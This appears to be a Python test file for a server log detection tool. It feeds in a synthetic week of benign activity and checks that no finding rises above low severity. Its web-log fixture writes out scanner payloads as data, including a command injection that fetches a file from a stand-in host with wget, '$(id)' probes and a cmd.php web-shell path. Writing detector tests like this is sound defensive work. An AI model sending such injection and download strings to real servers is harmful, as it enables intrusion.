# SPDX-License-Identifier: Apache-2.0
"""A week of an ordinary server: scanners, failed guesses, backups, packages, a new colleague. Nothing above low."""

from __future__ import annotations

from pathlib import Path

from memory_events import MemoryEvents, at
from test_commands import EVERYDAY

from headwater.correlate.steps import correlate
from headwater.detect import registry
from headwater.model.kinds import EventKind, Severity
from headwater.model.ports import Settings

K = EventKind
SECOND = 1_000_000_000
AUTH = "p1!/var/log/auth.log"


def _logins(events: MemoryEvents) -> None:
    guess = at("2026-03-02 01:00:00")
    rows: list = []
    for n in range(300):
        named = {"src_ip": "203.0.113.50", "user": f"u{n % 40}", "method": "password", "host": "web01"}
        rows.append((K.AUTH_FAILURE, guess + n * SECOND, named))
    for day in range(1, 8):
        for user, ip in (("alice", "198.51.100.20"), ("bob", "10.20.0.22")):
            named = {"src_ip": ip, "user": user, "method": "publickey", "host": "web01"}
            rows.append((K.AUTH_SUCCESS, f"2026-03-{day:02d} 01:30:00", named))
            rows.append((K.SESSION_OPEN, f"2026-03-{day:02d} 01:30:00", {"user": user}))
        bad = {"src_ip": "198.51.100.20", "user": "alice", "method": "password", "host": "web01"}
        rows += [(K.AUTH_FAILURE, f"2026-03-{day:02d} 02:30:00", bad)] * 2
        rows.append((K.AUTH_SUCCESS, f"2026-03-{day:02d} 02:31:00", bad))
    for command in EVERYDAY:
        named = {"user": "alice", "command_line": command, "process": "sudo", "fields": {"target_user": "root"}}
        rows.append((K.PRIVILEGE_USE, "2026-03-03 02:00:00", named))
    rows.append((K.PRIVILEGE_DENIED, "2026-03-03 02:00:00", {"user": "bob", "process": "sudo", "command_line": "ls"}))
    carol = {"target_user": "carol", "uid": 1004, "shell": "/bin/bash"}
    rows.append((K.ACCOUNT_CREATE, "2026-03-04 02:00:00", {"process": "useradd", "fields": carol}))
    rows.append((K.GROUP_CHANGE, "2026-03-04 02:00:01", {"fields": {"target_user": "carol", "group": "sudo"}}))
    events.say("linux.auth", AUTH, *rows)


def _web(events: MemoryEvents) -> None:
    rows = []
    scans = ["/cmd.php?cmd=id", "/shell?cd+/tmp;wget+http://203.0.113.9/x", "/a.php?c=$(id)", "/index.php?s=a|b"]
    for n, scan in enumerate(scans * 20):
        stem, _, query = scan.partition("?")
        own = {"cs-method": "GET", "cs-uri-stem": stem, "cs-uri-query": query, "sc-status": 404}
        rows.append((K.WEB_REQUEST, n * SECOND, {"src_ip": "203.0.113.60", "outcome": "failure", "fields": own}))
    for n in range(50):
        own = {"cs-method": "GET", "cs-uri-stem": "/products.php", "cs-uri-query": f"id={n % 5}", "sc-status": 200}
        rows.append((K.WEB_REQUEST, n * SECOND, {"src_ip": "198.51.100.9", "outcome": "success", "fields": own}))
    events.say("web.access", "p1!/var/log/nginx/access.log", *rows)
    own = {"trait": "exec-of-request", "match": "proc_open", "parameter": "cmd"}
    path = "/var/www/html/cmd.php"
    events.say("web.script", "p1!" + path, (K.STATE_CONTENT, None, {"file_path": path, "fields": own}))


def _state(events: MemoryEvents) -> None:
    jobs = ["/opt/ops/backup.sh", "test -x /usr/sbin/anacron || run-parts /etc/cron.daily", "/usr/lib/php/sessionclean"]
    events.say("linux.crontab", "p1!/etc/crontab", *[(K.STATE_SCHEDULE, None, {"command_line": j}) for j in jobs])
    events.say(
        "linux.crontab", "p1!/var/log/syslog", *[(K.SCHEDULE_RUN, 5, {"command_line": j, "user": "root"}) for j in jobs]
    )
    units = [
        "/usr/sbin/nginx -g 'daemon on; master_process on;'",
        "/usr/sbin/sshd -D $SSHD_OPTS",
        "/opt/node-agent/agent.sh",
    ]
    events.say("linux.systemd_unit", "p1!/x.service", *[(K.STATE_SERVICE, None, {"command_line": u}) for u in units])
    own = {"key_type": "ssh-ed25519", "key_fingerprint": "SHA256:a", "comment": "alice@desk"}
    events.say(
        "linux.authorized_keys",
        "p1!/home/alice/.ssh/authorized_keys",
        (K.STATE_KEY, None, {"user": "alice", "fields": own}),
    )
    people = [("root", 0, "/bin/bash"), ("alice", 1000, "/bin/bash"), ("www-data", 33, "/usr/sbin/nologin")]
    rows = [(K.STATE_ACCOUNT, None, {"user": u, "fields": {"uid": n, "shell": s}}) for u, n, s in people]
    events.say("linux.passwd", "p1!/etc/passwd", *rows)
    lines = [(K.COMMAND_HISTORY, None, {"user": "alice", "command_line": c}) for c in EVERYDAY]
    events.say("linux.history", "p1!/home/alice/.bash_history", *lines)
    made = [(K.PROCESS_CREATE, "2026-03-03 02:00:00", {"user": "root", "fields": {"CommandLine": c}}) for c in EVERYDAY]
    events.say("linux.audit", "p1!/var/log/audit/audit.log", *made)


def _files(events: MemoryEvents) -> None:
    paths = [f"/var/log/{n}" for n in ("auth.log", "auth.log.1", "auth.log.2.gz", "syslog", "syslog.1", "wtmp", "btmp")]
    paths += [f"/srv/data/{a}/{n}.csv" for a in "abc" for n in range(30)]
    paths += [f"/srv/backup/{n}.sql.gz" for n in range(30)] + [f"/etc/x{n}.conf.dpkg-old" for n in range(30)]
    paths += ["/etc/cron.d/backup", "/etc/rc.local", "/etc/systemd/system/node-agent.service", "/tmp/build.sh"]
    start = at("2026-03-01 00:00:00")
    rows = [
        (kind, start, {"file_path": p, "fields": {"size": 10, "uid": 0, "allocated": True}})
        for p in paths
        for kind in (K.FILE_MODIFIED, K.FILE_CHANGED, K.FILE_CREATED)
    ]
    events.say("fs.macb", "p1", *rows)


def ordinary() -> MemoryEvents:
    events = MemoryEvents()
    for part in (_logins, _web, _state, _files):
        part(events)
    return events


def test_nothing_on_an_ordinary_server_is_above_low_and_no_step_is_made() -> None:
    findings = list(registry.run_all(ordinary(), Settings(zone="Asia/Shanghai")))
    above = [(f.rule.id, f.severity, f.text.en) for f in findings if f.severity not in (Severity.LOW, Severity.INFO)]
    assert above == []
    assert correlate(findings) == []


def test_the_same_events_give_the_same_findings() -> None:
    first = [f.id for f in registry.run_all(ordinary(), Settings())]
    assert first == [f.id for f in registry.run_all(ordinary(), Settings())]
    assert len(set(first)) == len(first)


def test_every_detector_has_its_card_and_its_four_words_and_stands_on_an_empty_case() -> None:
    folder = Path(registry.package.__file__ or "").parent
    modules = [p for p in folder.glob("*.py") if not p.name.startswith("_")]
    assert len(registry.all_detectors()) == len(modules)
    assert list(registry.run_all(MemoryEvents(), Settings())) == []
